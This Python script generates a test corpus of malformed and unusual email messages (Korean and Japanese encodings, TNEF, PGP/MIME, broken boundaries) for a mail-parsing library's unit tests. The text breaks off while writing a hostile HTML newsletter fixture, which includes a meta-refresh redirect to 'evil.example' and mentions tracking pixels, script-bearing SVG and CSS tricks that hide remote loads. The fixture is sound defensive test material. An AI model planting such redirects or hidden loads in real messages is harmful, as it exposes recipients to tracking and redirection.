# ruff: noqa: E501  (message lines are data and stay as they appear on the wire)
"""Regenerate the real-world quirk messages in this directory (the .eml files are committed).

Every message is written for qtmail (CC0), modelled on the structure and the quirks seen in
real mail from the named clients and in public MIME test corpora; nothing is copied. The exact
bytes matter (CP949 under a ks_c_5601-1987 label, ISO-2022-JP with NEC extensions, words split
inside a character...), so they are produced here rather than typed. ``expected.json`` holds
what ``tests/unit/mime/test_quirks.py`` checks.
"""

from __future__ import annotations

import base64
import binascii
import quopri
import sys
from pathlib import Path
from urllib.parse import quote

HERE = Path(__file__).parent
sys.path.insert(0, str(HERE.parent))  # corpus_tools.py, shared with make_corpus.py
from corpus_tools import CorpusWriter, att, b64, word  # noqa: E402

corpus = CorpusWriter(HERE)
write = corpus.write


def split_words(data: bytes, charset: str, cut: int) -> bytes:
    """Two B words that split ``data`` at byte ``cut`` (inside a character, as portals do)."""
    first = b"=?" + charset.encode() + b"?B?" + base64.b64encode(data[:cut]) + b"?="
    second = b"=?" + charset.encode() + b"?B?" + base64.b64encode(data[cut:]) + b"?="
    return first + b"\r\n " + second


def uuencode(name: str, data: bytes) -> bytes:
    lines = [f"begin 644 {name}".encode()]
    for start in range(0, len(data), 45):
        lines.append(binascii.b2a_uu(data[start : start + 45]).rstrip(b"\n"))
    lines += [b"`", b"end"]
    return b"\r\n".join(lines)


# 1. Outlook / Exchange, Korean: TNEF winmail.dat, ks_c_5601-1987 base64 text with CP949-only syllables.
outlook_text = "똠방각하님, 뷁 햏 회의 자료를 보내드립니다.\r\n감사합니다.\r\n"
tnef = b"\x78\x9f\x3e\x22" + bytes(range(256)) * 3
write(
    "outlook_tnef_ks_c_5601.eml",
    [
        b"From: " + word("김똠순", "ks_c_5601-1987", "cp949") + b" <ddom@example.co.kr>",
        b"To: <team@example.com>",
        b"Subject: " + word("뷁 회의 자료 (똠)", "ks_c_5601-1987", "cp949"),
        b"Date: Thu, 19 Nov 2026 10:00:00 +0900",
        b"Message-ID: <0A1B2C3D4E5F@EXCH01.example.co.kr>",
        b"MIME-Version: 1.0",
        b"Content-Type: multipart/mixed;",
        b'\tboundary="_002_0A1B2C3D4E5FEXCH01examplecokr_"',
        b"X-MS-Has-Attach: yes",
        b"X-MS-TNEF-Correlator: <0A1B2C3D4E5F@EXCH01.example.co.kr>",
        b"",
        b"--_002_0A1B2C3D4E5FEXCH01examplecokr_",
        b'Content-Type: text/plain; charset="ks_c_5601-1987"',
        b"Content-Transfer-Encoding: base64",
        b"",
        b64(outlook_text.encode("cp949")),
        b"",
        b"--_002_0A1B2C3D4E5FEXCH01examplecokr_",
        b'Content-Type: application/ms-tnef; name="winmail.dat"',
        b"Content-Description: winmail.dat",
        b'Content-Disposition: attachment; filename="winmail.dat"; size=772;',
        b'\tcreation-date="Thu, 19 Nov 2026 01:00:00 GMT";',
        b'\tmodification-date="Thu, 19 Nov 2026 01:00:00 GMT"',
        b"Content-Transfer-Encoding: base64",
        b"",
        b64(tnef),
        b"",
        b"--_002_0A1B2C3D4E5FEXCH01examplecokr_--",
        b"",
    ],
    {
        "subject": "뷁 회의 자료 (똠)",
        "from": [["김똠순", "ddom@example.co.kr"]],
        "text_contains": ["똠방각하님, 뷁 햏 회의 자료를 보내드립니다.", "감사합니다."],
        "text_not_contains": ["\ufffd"],
        "attachments": [att("winmail.dat", tnef, "application/ms-tnef")],
        "defects": ["broken-tnef"],  # a signature and filler, no attributes: kept as it is
    },
)

# 2. Korean portals (Naver/Daum style): EUC-KR words split inside a character, RFC 2231 euc-kr
#    filename, a raw 8-bit EUC-KR filename, RFC 2047 name= split the same way.
subject_bytes = "[네이버] 똠양꿍 모임 사진 보내드립니다".encode("cp949")
photo = b"\xff\xd8\xff\xe0" + bytes(range(256)) * 2
hwp = b"HWP Document File" + bytes(range(100))
xls = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(300)
write(
    "korean_portal_split_words.eml",
    [
        b"Return-Path: <sender@naver.example>",
        b"From: " + split_words("네이버 사용자".encode("cp949"), "EUC-KR", 3) + b" <sender@naver.example>",
        b"To: =?euc-kr?Q?=C8=AB=B1=E6?= =?euc-kr?Q?=B5=BF?= <hong@example.com>",
        b"Subject: " + split_words(subject_bytes, "EUC-KR", 7),
        b"Date: Wed, 18 Nov 2026 21:10:00 +0900 (KST)",
        b"Message-ID: <abcd1234.1f2e3d@naver.example>",
        b"MIME-Version: 1.0",
        b'Content-Type: multipart/mixed; boundary="----=_Part_1234_5678.1600000000000"',
        b"",
        b"------=_Part_1234_5678.1600000000000",
        b"Content-Type: text/html; charset=euc-kr",
        b"Content-Transfer-Encoding: base64",
        b"",
        b64("<html><body><p>사진 보내드립니다. 똠양꿍 맛있었어요!</p></body></html>".encode("cp949")),
        b"------=_Part_1234_5678.1600000000000",
        b'Content-Type: image/jpeg; name="'
        + split_words("모임 사진.jpg".encode("cp949"), "EUC-KR", 5)
        + b'"',
        b"Content-Transfer-Encoding: base64",
        b'Content-Disposition: attachment; filename="'
        + split_words("모임 사진.jpg".encode("cp949"), "EUC-KR", 5)
        + b'"',
        b"",
        b64(photo),
        b"------=_Part_1234_5678.1600000000000",
        b"Content-Type: application/octet-stream",
        b"Content-Transfer-Encoding: base64",
        b"Content-Disposition: attachment;",
        b" filename*=euc-kr''" + quote("똠양꿍 레시피.hwp".encode("cp949")).encode(),
        b"",
        b64(hwp),
        b"------=_Part_1234_5678.1600000000000",
        b'Content-Type: application/vnd.ms-excel; name="' + "회비 정산.xls".encode("cp949") + b'"',
        b"Content-Transfer-Encoding: base64",
        b'Content-Disposition: attachment; filename="' + "회비 정산.xls".encode("cp949") + b'"',
        b"",
        b64(xls),
        b"------=_Part_1234_5678.1600000000000--",
        b"",
    ],
    {
        "subject": "[네이버] 똠양꿍 모임 사진 보내드립니다",
        "from": [["네이버 사용자", "sender@naver.example"]],
        "to": [["홍길동", "hong@example.com"]],
        "text": None,
        "html_contains": ["사진 보내드립니다. 똠양꿍 맛있었어요!"],
        "attachments": [
            att("모임 사진.jpg", photo, "image/jpeg"),
            att("똠양꿍 레시피.hwp", hwp, "application/octet-stream"),
            att("회비 정산.xls", xls, "application/vnd.ms-excel"),
        ],
        "defects": [],
    },
)


# 3. Japanese mobile / Windows: ISO-2022-JP with NEC extensions (CP50220: ①, ㈱, Ⅲ), half-width
#    katakana written as ESC ( I (CP50221), Shift_JIS under the labels sjis / x-sjis / cp932.
def jis_cp932(text: str) -> bytes:
    """ISO-2022-JP as Windows writes it (CP50221): CP932 double bytes mapped back to JIS rows."""
    out = bytearray()
    mode = "ascii"
    for char in text:
        encoded = char.encode("cp932")
        if len(encoded) == 1 and encoded[0] < 0x80:
            if mode != "ascii":
                out += b"\x1b(B"
                mode = "ascii"
            out += encoded
        elif len(encoded) == 1:
            if mode != "kana":
                out += b"\x1b(I"
                mode = "kana"
            out.append(encoded[0] - 0x80)
        else:
            if mode != "jis":
                out += b"\x1b$B"
                mode = "jis"
            lead, trail = encoded
            lead -= 0xB0 if lead >= 0xE0 else 0x70
            lead = lead * 2 - 1
            if trail >= 0x9F:
                lead += 1
                trail -= 0x7E
            else:
                trail -= 0x1F if trail < 0x7F else 0x20
            out += bytes((lead, trail))
    if mode != "ascii":
        out += b"\x1b(B"
    return bytes(out)


ja_body = "お疲れ様です。①議題 ②日程 ㈱サンプル Ⅲ期\r\nｶﾀｶﾅも読めます。\r\n"
ja_sjis = "～髙橋①の資料です～"
write(
    "japanese_mobile_cp50220.eml",
    [
        b"From: "
        + b"=?ISO-2022-JP?B?"
        + base64.b64encode(jis_cp932("髙橋 ①"))
        + b"?= <takahashi@docomo.example>",
        b"To: tanaka@example.jp",
        b"Subject: =?ISO-2022-JP?B?" + base64.b64encode(jis_cp932("①会議の件 ㈱サンプル")) + b"?=",
        b"Date: Tue, 17 Nov 2026 12:34:56 +0900",
        b"MIME-Version: 1.0",
        b'Content-Type: multipart/mixed; boundary="--==_mimepart_jp"',
        b"",
        b"----==_mimepart_jp",
        b"Content-Type: text/plain; charset=ISO-2022-JP",
        b"Content-Transfer-Encoding: 7bit",
        b"",
        jis_cp932(ja_body),
        b"----==_mimepart_jp",
        b"Content-Type: text/plain; charset=sjis",
        b"Content-Transfer-Encoding: 8bit",
        b"Content-Disposition: inline",
        b"",
        ja_sjis.encode("cp932"),
        b"----==_mimepart_jp",
        b"Content-Type: text/plain; charset=x-sjis",
        b"Content-Transfer-Encoding: base64",
        b"",
        b64("x-sjisラベル①".encode("cp932")),
        b"----==_mimepart_jp",
        b'Content-Type: text/plain; charset=cp932; name="=?ISO-2022-JP?B?'
        + base64.b64encode(jis_cp932("議事録①.txt"))
        + b'?="',
        b"Content-Transfer-Encoding: base64",
        b'Content-Disposition: attachment; filename="=?ISO-2022-JP?B?'
        + base64.b64encode(jis_cp932("議事録①.txt"))
        + b'?="',
        b"",
        b64("議事録です".encode("cp932")),
        b"----==_mimepart_jp--",
        b"",
    ],
    {
        "subject": "①会議の件 ㈱サンプル",
        "from": [["髙橋 ①", "takahashi@docomo.example"]],
        "text_contains": ["①議題 ②日程 ㈱サンプル Ⅲ期", "ｶﾀｶﾅも読めます。", ja_sjis, "x-sjisラベル①"],
        "text_not_contains": ["\ufffd", "議事録です"],
        "attachments": [att("議事録①.txt", "議事録です".encode("cp932"), "text/plain")],
        "defects": [],
    },
)

# 4. Apple Mail: alternative > (plain, mixed > (html, inline image, html)) inside multipart/mixed,
#    and a PDF sent with Content-Disposition: inline and a filename.
apple_png = b"\x89PNG\r\n\x1a\n" + bytes(range(64))
apple_pdf = b"%PDF-1.4\n" + bytes(500) + b"%%EOF\n"
write(
    "apple_mail_alternative_mixed.eml",
    [
        b"From: Chloe Dupont <chloe@example.fr>",
        b"Content-Type: multipart/mixed;",
        b'\tboundary="Apple-Mail=_A1B2C3D4-0000-4000-8000-000000000001"',
        b"Mime-Version: 1.0 (Mac OS X Mail 16.0 \\(3731.500.231\\))",
        b"Subject: =?utf-8?Q?Photos_de_l=E2=80=99=C3=A9t=C3=A9?=",
        b"Date: Mon, 16 Nov 2026 18:20:00 +0100",
        b"To: Marc <marc@example.fr>",
        b"Message-Id: <A1B2C3D4-1111-2222-3333-444455556666@example.fr>",
        b"",
        b"",
        b"--Apple-Mail=_A1B2C3D4-0000-4000-8000-000000000001",
        b"Content-Type: multipart/alternative;",
        b'\tboundary="Apple-Mail=_A1B2C3D4-0000-4000-8000-000000000002"',
        b"",
        b"",
        b"--Apple-Mail=_A1B2C3D4-0000-4000-8000-000000000002",
        b"Content-Transfer-Encoding: quoted-printable",
        b"Content-Type: text/plain;",
        b"\tcharset=utf-8",
        b"",
        quopri.encodestring(
            "Voici la photo :\r\n\r\n\r\net le programme ci-joint.\r\nÀ bientôt\r\n".encode()
        ).rstrip(b"\r\n"),
        b"--Apple-Mail=_A1B2C3D4-0000-4000-8000-000000000002",
        b"Content-Type: multipart/mixed;",
        b'\tboundary="Apple-Mail=_A1B2C3D4-0000-4000-8000-000000000003"',
        b"",
        b"",
        b"--Apple-Mail=_A1B2C3D4-0000-4000-8000-000000000003",
        b"Content-Transfer-Encoding: 7bit",
        b"Content-Type: text/html;",
        b"\tcharset=us-ascii",
        b"",
        b'<html><head><meta http-equiv="Content-Type" content="text/html; charset=us-ascii"></head><body style="word-wrap: break-word;">Voici la photo :<div><br></div></body></html>',
        b"--Apple-Mail=_A1B2C3D4-0000-4000-8000-000000000003",
        b"Content-Disposition: inline;",
        b"\tfilename=IMG_0042.png",
        b"Content-Type: image/png;",
        b"\tx-unix-mode=0644;",
        b"\tname=IMG_0042.png",
        b"Content-Transfer-Encoding: base64",
        b"",
        b64(apple_png),
        b"--Apple-Mail=_A1B2C3D4-0000-4000-8000-000000000003",
        b"Content-Transfer-Encoding: quoted-printable",
        b"Content-Type: text/html;",
        b"\tcharset=utf-8",
        b"",
        quopri.encodestring(
            '<html><body style="word-wrap: break-word;"><div>et le programme ci-joint.</div><div>À bientôt</div></body></html>'.encode()
        ),
        b"--Apple-Mail=_A1B2C3D4-0000-4000-8000-000000000003--",
        b"",
        b"--Apple-Mail=_A1B2C3D4-0000-4000-8000-000000000002--",
        b"",
        b"--Apple-Mail=_A1B2C3D4-0000-4000-8000-000000000001",
        b"Content-Disposition: inline;",
        b"\tfilename*=utf-8''Programme%20d%E2%80%99%C3%A9t%C3%A9.pdf",
        b"Content-Type: application/pdf;",
        b"\tx-unix-mode=0644;",
        b'\tname="=?utf-8?Q?Programme_d=E2=80=99=C3=A9t=C3=A9=2Epdf?="',
        b"Content-Transfer-Encoding: base64",
        b"",
        b64(apple_pdf),
        b"--Apple-Mail=_A1B2C3D4-0000-4000-8000-000000000001--",
        b"",
    ],
    {
        "subject": "Photos de l’été",
        "text_contains": ["Voici la photo :", "À bientôt"],
        "html_contains": ["Voici la photo", "et le programme ci-joint.", "À bientôt"],
        "paths": ["1.1", "1.2.1", "1.2.2", "1.2.3", "2"],
        "attachments": [
            att("IMG_0042.png", apple_png, "image/png", inline=True),
            att("Programme d’été.pdf", apple_pdf, "application/pdf", inline=True),
        ],
        "defects": [],
    },
)

# 5. Thunderbird: format=flowed; delsp=yes (Japanese soft breaks without spaces), quoting, signature.
flowed_body = (
    "これは長い段落で、 \r\n"  # delsp: the space is removed, the lines join
    "行が折り返されています。\r\n"
    "\r\n"
    "> Quoted paragraph that was  \r\n"  # delsp: one of the two spaces is the soft break
    "> wrapped by the sender.\r\n"
    "\r\n"
    " From the start of a line (space-stuffed).\r\n"
    "-- \r\n"
    "Taro\r\n"
)
write(
    "thunderbird_flowed_delsp.eml",
    [
        b"From: Taro <taro@example.jp>",
        b"To: hanako@example.jp",
        b"Subject: flowed",
        b"Date: Sun, 15 Nov 2026 09:00:00 +0900",
        b"User-Agent: Mozilla/5.0 Thunderbird/115.0",
        b"MIME-Version: 1.0",
        b"Content-Type: text/plain; charset=UTF-8; format=flowed; delsp=yes",
        b"Content-Transfer-Encoding: 8bit",
        b"",
        flowed_body.encode(),
    ],
    {
        "text_contains": [
            "これは長い段落で、行が折り返されています。",
            "> Quoted paragraph that was wrapped by the sender.",
            "\nFrom the start of a line (space-stuffed).",
            "-- \nTaro",
        ],
        "attachments": [],
        "defects": [],
    },
)

# 6. Bounce: multipart/report with message/delivery-status and text/rfc822-headers (Postfix style).
write(
    "bounce_report.eml",
    [
        b"Return-Path: <>",
        b"From: MAILER-DAEMON@mx.example.com (Mail Delivery System)",
        b"Subject: Undelivered Mail Returned to Sender",
        b"To: sender@example.com",
        b"Auto-Submitted: auto-replied",
        b"MIME-Version: 1.0",
        b"Content-Type: multipart/report; report-type=delivery-status;",
        b'\tboundary="4F3A21C0E9.1700000000/mx.example.com"',
        b"Date: Sat, 14 Nov 2026 08:00:00 +0000 (UTC)",
        b"",
        b"This is a MIME-encapsulated message.",
        b"",
        b"--4F3A21C0E9.1700000000/mx.example.com",
        b"Content-Description: Notification",
        b"Content-Type: text/plain; charset=us-ascii",
        b"",
        b"This is the mail system at host mx.example.com.",
        b"",
        b"<nobody@example.org>: host mx.example.org said: 550 5.1.1 User unknown",
        b"",
        b"--4F3A21C0E9.1700000000/mx.example.com",
        b"Content-Description: Delivery report",
        b"Content-Type: message/delivery-status",
        b"",
        b"Reporting-MTA: dns; mx.example.com",
        b"Arrival-Date: Sat, 14 Nov 2026 07:59:58 +0000 (UTC)",
        b"",
        b"Final-Recipient: rfc822; nobody@example.org",
        b"Action: failed",
        b"Status: 5.1.1",
        b"Diagnostic-Code: smtp; 550 5.1.1 User unknown",
        b"",
        b"--4F3A21C0E9.1700000000/mx.example.com",
        b"Content-Description: Undelivered Message Headers",
        b"Content-Type: text/rfc822-headers",
        b"",
        b"From: sender@example.com",
        b"To: nobody@example.org",
        b"Subject: hello there",
        b"",
        b"--4F3A21C0E9.1700000000/mx.example.com--",
        b"",
    ],
    {
        "subject": "Undelivered Mail Returned to Sender",
        "from": [["Mail Delivery System", "MAILER-DAEMON@mx.example.com"]],
        "text_contains": ["550 5.1.1 User unknown"],
        "text_not_contains": ["Reporting-MTA", "Subject: hello there"],
        "paths": ["1", "2", "3"],
        "attachments": [],
        "defects": [],
    },
)


# 7. message/rfc822 nested three levels, each level with an attachment.
def nested(level: int) -> bytes:
    data = f"attachment of level {level}\n".encode() * 3
    inner = b""
    if level < 3:
        inner = (
            b"\r\n".join(
                [
                    b"--lvl" + str(level).encode(),
                    b"Content-Type: message/rfc822",
                    b'Content-Disposition: attachment; filename="level' + str(level + 1).encode() + b'.eml"',
                    b"",
                    nested(level + 1),
                ]
            )
            + b"\r\n"
        )
    return b"\r\n".join(
        [
            b"From: level" + str(level).encode() + b"@example.com",
            b"Subject: level " + str(level).encode(),
            b"MIME-Version: 1.0",
            b'Content-Type: multipart/mixed; boundary="lvl' + str(level).encode() + b'"',
            b"",
            b"--lvl" + str(level).encode(),
            b"Content-Type: text/plain",
            b"",
            b"body of level " + str(level).encode(),
            b"--lvl" + str(level).encode(),
            b'Content-Type: text/plain; name="file' + str(level).encode() + b'.txt"',
            b"Content-Transfer-Encoding: base64",
            b'Content-Disposition: attachment; filename="file' + str(level).encode() + b'.txt"',
            b"",
            b64(data),
            inner + b"--lvl" + str(level).encode() + b"--",
            b"",
        ]
    )


level_data = {level: f"attachment of level {level}\n".encode() * 3 for level in (0, 1, 2, 3)}
write(
    "nested_rfc822_three_levels.eml",
    [nested(0)],
    {
        "subject": "level 0",
        "text_contains": ["body of level 0"],
        "text_not_contains": ["body of level 1"],
        "paths": ["1", "2", "3", "3.1", "3.2", "3.3", "3.3.1", "3.3.2", "3.3.3", "3.3.3.1", "3.3.3.2"],
        "attachments": [
            att("file0.txt", level_data[0], "text/plain"),
            {"filename": "level1.eml", "content_type": "message/rfc822"},
            att("file1.txt", level_data[1], "text/plain"),
            {"filename": "level2.eml", "content_type": "message/rfc822"},
            att("file2.txt", level_data[2], "text/plain"),
            {"filename": "level3.eml", "content_type": "message/rfc822"},
            att("file3.txt", level_data[3], "text/plain"),
        ],
        "defects": [],
    },
)

# 8. S/MIME opaque: application/pkcs7-mime (enveloped) as the whole message, old x- type names.
p7m = bytes(range(256)) * 4
write(
    "smime_pkcs7_mime.eml",
    [
        b"From: secure@example.com",
        b"To: rcpt@example.com",
        b"Subject: encrypted",
        b"MIME-Version: 1.0",
        b'Content-Type: application/x-pkcs7-mime; smime-type=enveloped-data; name="smime.p7m"',
        b"Content-Transfer-Encoding: base64",
        b'Content-Disposition: attachment; filename="smime.p7m"',
        b"Content-Description: S/MIME Encrypted Message",
        b"",
        b64(p7m),
        b"",
    ],
    {
        "subject": "encrypted",
        "text": None,
        "paths": ["1"],
        "attachments": [att("smime.p7m", p7m, "application/x-pkcs7-mime")],
        "defects": [],
    },
)

# 9. PGP/MIME: signed (with a quoted-printable body) and an encrypted part forwarded inside it.
pgp_sig = b"-----BEGIN PGP SIGNATURE-----\r\n\r\niQEzBAEBCAAdFiEE\r\n=abcd\r\n-----END PGP SIGNATURE-----\r\n"
pgp_armored = b"-----BEGIN PGP MESSAGE-----\r\n\r\nhQEMA1234567890\r\n=wxyz\r\n-----END PGP MESSAGE-----\r\n"
write(
    "pgp_mime_signed_encrypted.eml",
    [
        b"From: Alice <alice@example.org>",
        b"To: Bob <bob@example.org>",
        b"Subject: PGP",
        b"MIME-Version: 1.0",
        b'Content-Type: multipart/signed; micalg=pgp-sha256; protocol="application/pgp-signature";',
        b' boundary="sig-boundary"',
        b"",
        b"This is an OpenPGP/MIME signed message (RFC 4880 and 3156)",
        b"--sig-boundary",
        b'Content-Type: multipart/mixed; boundary="inner"; protected-headers="v1"',
        b"",
        b"--inner",
        b"Content-Type: text/plain; charset=UTF-8",
        b"Content-Transfer-Encoding: quoted-printable",
        b"",
        b"Signed text with an =C3=BCmlaut.",
        b"--inner",
        b'Content-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary="enc"',
        b"",
        b"--enc",
        b"Content-Type: application/pgp-encrypted",
        b"Content-Description: PGP/MIME version identification",
        b"",
        b"Version: 1",
        b"",
        b"--enc",
        b'Content-Type: application/octet-stream; name="encrypted.asc"',
        b"Content-Description: OpenPGP encrypted message",
        b'Content-Disposition: inline; filename="encrypted.asc"',
        b"",
        pgp_armored.rstrip(b"\r\n"),
        b"",
        b"--enc--",
        b"--inner--",
        b"",
        b"--sig-boundary",
        b'Content-Type: application/pgp-signature; name="OpenPGP_signature.asc"',
        b"Content-Description: OpenPGP digital signature",
        b'Content-Disposition: attachment; filename="OpenPGP_signature.asc"',
        b"",
        pgp_sig.rstrip(b"\r\n"),
        b"--sig-boundary--",
        b"",
    ],
    {
        "text_contains": ["Signed text with an ümlaut."],
        "text_not_contains": ["BEGIN PGP"],
        "paths": ["1.1", "1.2.1", "1.2.2", "2"],
        "attachments": [
            att("encrypted.asc", pgp_armored, "application/octet-stream", inline=True),  # keeps its last CRLF
            att("OpenPGP_signature.asc", pgp_sig.rstrip(b"\r\n"), "application/pgp-signature"),
        ],
        "defects": [],
    },
)

# 10. Calendar invitation (Outlook style): text/calendar method=REQUEST inside alternative, plus invite.ics.
ics = (
    "BEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\nPRODID:Microsoft Exchange Server 2010\r\nVERSION:2.0\r\n"
    "BEGIN:VEVENT\r\nSUMMARY;LANGUAGE=ko-KR:주간 회의\r\nDTSTART:20261201T010000Z\r\n"
    "DTEND:20261201T020000Z\r\nUID:040000008200E00074C5B7101A82E008@example.com\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
).encode()
write(
    "calendar_invite_request.eml",
    [
        b"From: Organizer <org@example.com>",
        b"To: attendee@example.com",
        b"Subject: =?utf-8?B?" + base64.b64encode("주간 회의".encode()) + b"?=",
        b"MIME-Version: 1.0",
        b'Content-Type: multipart/mixed; boundary="_004_cal"',
        b"",
        b"--_004_cal",
        b'Content-Type: multipart/alternative; boundary="_000_cal"',
        b"",
        b"--_000_cal",
        b'Content-Type: text/plain; charset="utf-8"',
        b"Content-Transfer-Encoding: base64",
        b"",
        b64("회의에 초대합니다.\r\n".encode()),
        b"--_000_cal",
        b'Content-Type: text/html; charset="utf-8"',
        b"Content-Transfer-Encoding: base64",
        b"",
        b64("<html><body><p>회의에 초대합니다.</p></body></html>".encode()),
        b"--_000_cal",
        b'Content-Type: text/calendar; charset="utf-8"; method=REQUEST',
        b"Content-Transfer-Encoding: base64",
        b"",
        b64(ics),
        b"--_000_cal--",
        b"",
        b"--_004_cal",
        b'Content-Type: application/ics; name="invite.ics"',
        b'Content-Disposition: attachment; filename="invite.ics"',
        b"Content-Transfer-Encoding: base64",
        b"",
        b64(ics),
        b"--_004_cal--",
        b"",
    ],
    {
        "subject": "주간 회의",
        "text_contains": ["회의에 초대합니다."],
        "text_not_contains": ["BEGIN:VCALENDAR"],
        "html_contains": ["회의에 초대합니다."],
        "paths": ["1.1", "1.2", "1.3", "2"],
        "part_params": {"1.3": {"method": "REQUEST", "charset": "utf-8"}},
        "attachments": [att("invite.ics", ics, "application/ics")],
        "defects": [],
    },
)

# 11. uuencoded file inside a text/plain body (old mailers, Usenet gateways).
uu_data = bytes(range(256)) + b"uuencoded payload\n"
write(
    "uuencode_in_text_plain.eml",
    [
        b"From: old@example.net",
        b"To: you@example.com",
        b"Subject: uuencoded",
        b"",
        b"Here is the file.",
        b"",
        uuencode("report.bin", uu_data),
        b"",
        b"Bye.",
        b"",
    ],
    {
        "text_contains": ["Here is the file.", "Bye."],
        "text_not_contains": ["begin 644"],
        "attachments": [att("report.bin", uu_data, "application/octet-stream")],
        "defects": [],
    },
)

# 12. Broken structure: boundary lines with trailing whitespace, preamble and epilogue text, a part
#     without any header, a part whose first line is not a header, duplicate Content-Type headers,
#     no closing delimiter.
write(
    "broken_structure.eml",
    [
        b"From: robot@example.com",
        b"Subject: structure",
        b"MIME-Version: 1.0",
        b"Content-Type: multipart/mixed; boundary=frontier",
        b"Content-Type: text/plain",
        b"",
        b"This is the preamble; a MIME reader ignores it.",
        b"--frontier-not-a-delimiter",
        b"--frontier   \t",
        b"",
        b"part one without headers",
        b"--frontier",
        b"Content-Type: text/plain; charset=utf-8",
        b"Content-Type: text/html",
        b"",
        b"part two, first Content-Type wins",
        b"--frontier \t ",
        b"no header here, just text",
        b"--frontier",
        b'Content-Type: application/octet-stream; name="empty.bin"',
        b"Content-Transfer-Encoding: base64",
        b"",
        b"",
        b"--frontier",
        b'Content-Type: text/plain; name="tail.txt"',
        b"",
        b"the last part runs to the end",
    ],
    {
        "text_contains": [
            "part one without headers",
            "part two, first Content-Type wins",
            "no header here, just text",
        ],
        "text_not_contains": ["preamble", "frontier-not"],
        "paths": ["1", "2", "3", "4", "5"],
        "attachments": [
            att("empty.bin", b"", "application/octet-stream"),
            att("tail.txt", b"the last part runs to the end", "text/plain"),
        ],
        "defects_include": ["missing-end-boundary"],
    },
)

# 13. Damaged encodings: base64 with junk characters and bad padding in the text, quoted-printable
#     with bad escapes, lowercase hex and soft breaks followed by spaces.
good = b"Base64 text that survived."
junk_b64 = base64.b64encode(good)
junk_b64 = junk_b64[:8] + b"!!*" + junk_b64[8:20] + b"=" + junk_b64[20:]
write(
    "damaged_encodings.eml",
    [
        b"From: broken@example.com",
        b"Subject: damaged",
        b"MIME-Version: 1.0",
        b"Content-Type: multipart/mixed; boundary=b",
        b"",
        b"--b",
        b"Content-Type: text/plain; charset=utf-8",
        b"Content-Transfer-Encoding: base64",
        b"",
        junk_b64,
        b"--b",
        b"Content-Type: text/plain; charset=utf-8",
        b"Content-Transfer-Encoding: Quoted-Printable",
        b"",
        b"caf=c3=a9 =ZZ 100=% soft=  ",
        b"break=",
        b"done",
        b"--b",
        b'Content-Type: application/octet-stream; name="short.bin"',
        b"Content-Transfer-Encoding: base64",
        b"",
        b"AAECAwQ",
        b"--b--",
    ],
    {
        "text_contains": ["Base64 text", "café =ZZ 100=% softbreakdone"],
        "attachments": [att("short.bin", b"\x00\x01\x02\x03\x04", "application/octet-stream")],
        "defects_include": ["broken-base64"],
    },
)

# 14. Header oddities: a 3000-character Subject line (no folding), raw UTF-8 Subject, raw latin-1
#     From name in a message that declares iso-8859-1, NUL bytes, bare LF line ends.
long_subject = "Long " + "x" * 2995
write(
    "header_oddities_lf.eml",
    [
        b"From: J\xfcrgen M\xfcller <juergen@example.de>",
        b'To: Ren\xe9e <renee@example.fr>, "Andr\xe9, Luc" <luc@example.fr>',
        b"Subject: " + long_subject.encode(),
        "X-Raw-UTF8: Grüße aus Köln".encode(),
        b"X-Nul: a\x00b",
        b"MIME-Version: 1.0",
        b"Content-Type: text/plain; charset=iso-8859-1",
        b"Content-Transfer-Encoding: 8bit",
        b"",
        b"Sch\xf6ne Gr\xfc\xdfe\x00 aus K\xf6ln",
        b"",
    ],
    {
        "subject": long_subject,
        "from": [["Jürgen Müller", "juergen@example.de"]],
        "to": [["Renée", "renee@example.fr"], ["André, Luc", "luc@example.fr"]],
        "header_values": {"X-Raw-UTF8": "Grüße aus Köln", "X-Nul": "a b"},
        "text_contains": ["Schöne Grüße", "aus Köln"],
        "attachments": [],
        "defects": [],
    },
    newline=b"\n",
)

# 15. Raw 8-bit UTF-8 headers and a Western From in a message without any charset label.
write(
    "raw_8bit_headers_no_charset.eml",
    [
        "From: Zoë Łukasiewicz <zoe@example.pl>".encode(),
        b"Cc: Fran\xe7ois P\xe9rez <fp@example.fr>",
        "Subject: Ünïcödé ✓ 日本語".encode(),
        b"",
        "Body in UTF-8 without a label: ✓".encode(),
    ],
    {
        "subject": "Ünïcödé ✓ 日本語",
        "from": [["Zoë Łukasiewicz", "zoe@example.pl"]],
        "cc": [["François Pérez", "fp@example.fr"]],
        "text_contains": ["Body in UTF-8 without a label: ✓"],
        "attachments": [],
        "defects": [],
    },
)

# 16. Content-Type oddities: no subtype, charset=unknown-8bit, charset="", a 0-byte attachment.
write(
    "content_type_oddities.eml",
    [
        b"From: odd@example.com",
        b"Subject: odd types",
        b"MIME-Version: 1.0",
        b"Content-Type: multipart/mixed; boundary=odd",
        b"",
        b"--odd",
        b"Content-Type: text; charset=unknown-8bit",
        b"Content-Transfer-Encoding: 8bit",
        b"",
        "unknown-8bit label, UTF-8 bytes: naïve".encode(),
        b"--odd",
        b'Content-Type: text/plain; charset=""',
        b"",
        b"empty charset label: caf\xe9",
        b"--odd",
        b'Content-Type: application; name="report.pdf"',
        b"Content-Transfer-Encoding: base64",
        b'Content-Disposition: attachment; filename="report.pdf"',
        b"",
        b64(apple_pdf),
        b"--odd",
        b'Content-Type: application/octet-stream; name="zero.dat"',
        b'Content-Disposition: attachment; filename="zero.dat"',
        b"Content-Transfer-Encoding: base64",
        b"",
        b"--odd--",
        b"",
    ],
    {
        "text_contains": ["unknown-8bit label, UTF-8 bytes: naïve", "empty charset label: café"],
        "attachments": [
            att("report.pdf", apple_pdf, "application/pdf"),
            att("zero.dat", b"", "application/octet-stream"),
        ],
        "defects_include": ["bad-header"],
    },
)

# 17. Empty message, headers only, and a message that is only a body.
write("empty.eml", [b""], {"text_is_none_or_empty": True, "attachments": []})
write(
    "headers_only.eml",
    [b"From: a@example.com", b"To: b@example.com", b"Subject: no body at all"],
    {"subject": "no body at all", "from": [["", "a@example.com"]], "attachments": [], "defects": []},
)

# 18. HTML-only newsletter: <style>, <base href>, tracking pixels, data: URIs, CSS url() loads,
#     <meta http-equiv=refresh>, SVG with script, <form>, srcset, background= attributes, image-set()
#     and CSS escapes that hide url().
newsletter = """<!DOCTYPE html>
<html><head>
<meta http-equiv="refresh" content="0; url=https://evil.example/refresh">
<base href="https://cdn.example/newsletter/">
<style type="text/css">
body { background: url('https://cdn.example/css-bg.png'); }
@import url("https://cdn.example/import.css");
